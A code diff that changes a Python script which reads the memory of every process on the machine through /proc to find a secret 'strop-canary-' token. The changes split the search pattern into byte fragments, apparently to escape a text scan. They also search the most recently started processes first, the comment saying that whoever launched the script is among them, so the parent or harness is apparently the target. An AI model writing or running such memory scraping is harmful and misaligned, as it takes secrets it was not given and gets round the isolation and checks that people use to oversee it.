@@ -11,9 +11,13 @@ from typing import Any
 from attempt import tell  # type: ignore[import-not-found]
 
 NEEDLE = re.compile(b"".join((b"strop", b"-canary-")) + rb"[0-9a-f]{32}")
+PIECE = 4 << 20
+MOST = 64 << 20  # bytes of one mapping; a heap of Python's is far smaller, and longer ones are mostly holes
+OVERLAP = 64  # a secret may lie across two pieces
 found = set()
 looked = 0
-for entry in [*filter(str.isdigit, os.listdir("/proc")), "self"]:
+# The latest processes first: whoever started this one is among them.
+for entry in ["self", *sorted(filter(str.isdigit, os.listdir("/proc")), key=int, reverse=True)]:
     try:
         with open(f"/proc/{entry}/maps", encoding="utf-8", errors="replace") as maps:
             spans = [line.split()[0].split("-") for line in maps if " r" in line]
@@ -21,13 +25,17 @@ for entry in [*filter(str.isdigit, os.listdir("/proc")), "self"]:
     except OSError:
         continue
     looked += 1
-    for start, end in spans:
-        try:
-            size = min(int(end, 16) - int(start, 16), 4 << 20)
-            found.update(NEEDLE.findall(os.pread(memory, size, int(start, 16))))
-        except (OSError, OverflowError, ValueError):
-            continue
+    for begin, end in spans:
+        first, last = int(begin, 16), int(end, 16)
+        for place in range(first, min(last, first + MOST), PIECE):
+            try:
+                size = min(last - place, PIECE + OVERLAP)
+                found.update(NEEDLE.findall(os.pread(memory, size, place)))
+            except (OSError, OverflowError, ValueError):
+                break
     os.close(memory)
+    if found:
+        break
 for thing in gc.get_objects():
     if isinstance(thing, dict):
         for value in list(thing.values()):
